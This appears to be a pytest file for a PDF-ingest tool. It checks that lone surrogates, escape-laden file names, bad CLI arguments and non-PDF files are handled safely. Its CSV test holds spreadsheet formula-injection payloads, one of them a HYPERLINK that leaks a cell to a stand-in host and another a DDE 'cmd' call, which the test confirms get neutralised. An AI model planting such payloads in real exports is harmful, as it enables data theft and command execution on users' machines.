"""Hostile input that must never crash a batch or reach a user raw (issue 15): lone surrogates
in PDF text, odd file names, formula cells in CSV exports, a dying parent, bad --k values."""

from __future__ import annotations

import csv
import hashlib
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

import core.cli as cli
from core.extract import Cell, Row, parse_question_set, write_table
from core.extract_export import csv_cell
from core.ingest.clean import clean_pages, scrub
from core.ingest.pdf import read_pdf
from core.ingest.worker import _reply
from core.paths import from_db, printable, shown, to_db
from core.pdfgen import write_paper
from core.types import Paper
from tests import pdfs

# ---------------------------------------------------------------- text that cannot be encoded


def test_scrub_replaces_lone_surrogates():
    assert scrub("a\ud800b\udfffc") == "a\ufffdb\ufffdc"
    assert scrub("plain \U0001f600 text") == "plain \U0001f600 text"  # a proper pair stays
    assert "\ud800" not in clean_pages(["broken \ud800 glyph"])[0]


def test_pdf_with_a_lone_surrogate_reads_as_utf8_text(tmp_path):
    doc = read_pdf(pdfs.lone_surrogate_pdf(tmp_path))
    for text in [p.text for p in doc.pages] + [doc.meta.title, *doc.meta.authors]:
        text.encode("utf-8")  # raises on a surrogate
    assert "\ufffd" in doc.pages[0].text


def test_read_pdf_hashes_the_bytes_it_parsed(tmp_path):
    path = pdfs.ecology_paper(tmp_path)
    assert read_pdf(path).sha256 == hashlib.sha256(path.read_bytes()).hexdigest()


def test_a_surrogate_pdf_is_added_and_the_batch_goes_on(fake_library, tmp_path):
    files = [pdfs.lone_surrogate_pdf(tmp_path), pdfs.ecology_paper(tmp_path)]
    events = list(fake_library.add(files))
    assert [e.status for e in events if hasattr(e, "status")] == ["added", "added"]
    assert not fake_library.pending()


# ---------------------------------------------------------------- names shown on one line


def test_printable_escapes_controls_and_undecodable_bytes():
    name = os.fsdecode(b"caf\xe9\nline\r\x1b[31mred.pdf")
    assert printable(name) == "caf\\xe9\\nline\\r\\x1b[31mred.pdf"
    assert printable("Ökologie – 生态.pdf") == "Ökologie – 生态.pdf"
    assert shown(Path("/a/b\tc.pdf")) == "/a/b\\tc.pdf"


def test_db_form_of_a_path_is_lossless():
    for raw in (b"/papers/caf\xe9.pdf", "/papers/Ökologie.pdf".encode(), b"/p/new\nline.pdf"):
        path = Path(os.fsdecode(raw))
        stored = to_db(path)
        assert from_db(stored) == path and os.fsencode(from_db(stored)) == raw
    assert isinstance(to_db(Path("/papers/plain.pdf")), str)  # text whenever UTF-8 holds it


# ---------------------------------------------------------------- CSV formula injection


QSET = parse_question_set("""
id = "mini"
title = "Mini"
[[questions]]
id = "hw"
label = "Hardware"
question = "Which hardware?"
""")


def test_formula_cells_are_neutralised(tmp_path):
    evil = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
    paper = Paper("aaa", "+cmd|' /C calc'!A0", ("@SUM(1+1)",), 2020, None, 1, 1,
                  Path("/p/-2+3.pdf"), "s" * 64, 0.0)
    cell = Cell(status="reported", answer=evil, quote="\tquoted -1 text", page=2, supported=True,
                grounding="generated")
    rows = [Row(paper, {"hw": cell})]
    for long in (False, True):
        path = write_table(rows, QSET, tmp_path / f"t{long}.csv", long=long)
        with path.open(encoding="utf-8-sig", newline="") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert evil not in cells and "'" + evil in cells
        assert all(not c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert csv_cell("p. 4: -1 dB") == "p. 4: -1 dB"  # only a leading sign matters
    assert csv_cell(None) == "" and csv_cell(3) == "3"


# ---------------------------------------------------------------- the PDF reader child


def test_reply_to_a_dead_parent_is_quiet():
    import multiprocessing

    mine, theirs = multiprocessing.Pipe()
    theirs.close()
    assert _reply(mine, ("ok", None)) is False  # BrokenPipeError caught, no traceback


@pytest.mark.e2e  # a Python parent process killed while its reader child reads a long paper
def test_reader_child_exits_quietly_when_its_parent_is_killed(tmp_path):
    """The parent dies (kill -9) while the child reads a file: the child's reply finds a broken
    pipe; it must end without a traceback on the stderr it shares with the parent."""
    big = write_paper(tmp_path / "long.pdf", title="A long paper",
                      sections=pdfs.ecology_sections() * 40)  # about a second of reading
    script = textwrap.dedent(f"""
        import os, sys, time
        from pathlib import Path
        from core.ingest.worker import ParserProcess
        from core.settings import IngestSettings
        if __name__ == "__main__":
            p = ParserProcess(IngestSettings(timeout_s=60))
            p.prefetch(Path({str(big)!r}))
            print(p._process.pid, flush=True)
            os.kill(os.getpid(), 9)
    """)
    parent = subprocess.Popen([sys.executable, "-c", script], cwd=Path(__file__).parents[2],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    out, err = parent.communicate(timeout=120)  # EOF only once the child has exited too
    assert parent.returncode == -9 and out.strip().isdigit()
    assert "Traceback" not in err, err


# ---------------------------------------------------------------- CLI arguments and lines


@pytest.mark.parametrize("k", ["-5", "0", "51", "many"])
def test_ask_refuses_a_bad_k(k, capsys):
    with pytest.raises(SystemExit) as exc:
        cli.main(["ask", "Which GPU?", "--k", k])
    assert exc.value.code == 2
    assert "--k: must be a whole number from 1 to 50" in capsys.readouterr().err


def test_add_prints_one_escaped_line_per_odd_name(run, tmp_path):
    source = pdfs.ecology_paper(tmp_path).read_bytes()
    folder = tmp_path / "odd"
    folder.mkdir()
    names = [b"new\nline.pdf", b"carriage\rreturn.pdf", b"esc\x1b[2Jape.pdf"]
    for name in names:
        (folder / os.fsdecode(name)).write_bytes(source + name)  # different bytes each
    code, out, err = run("add", str(folder))
    lines = out.splitlines()
    assert code == 0 and len(lines) == len(names), out
    assert all("\x1b" not in line and "\r" not in line for line in lines)
    assert any("new\\nline.pdf" in line for line in lines)
    assert "3 added" in err


def test_a_file_that_is_not_a_pdf_is_named_for_what_it_is_never_for_what_it_holds(run, tmp_path):
    secret = tmp_path / "secrets.pdf"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\nAPI_KEY=sk-123456\n")
    blob = tmp_path / "blob.pdf"
    blob.write_bytes(bytes(range(256)) * 4)
    for argv in (["add", str(secret), str(blob)], ["add", "--json", str(secret), str(blob)]):
        code, out, err = run(*argv)
        assert code == 1
        assert "not a PDF (it is a text file)" in out + err
        assert "not a PDF (it holds data of an unknown kind)" in out + err
        assert "root:" not in out + err and "sk-123456" not in out + err
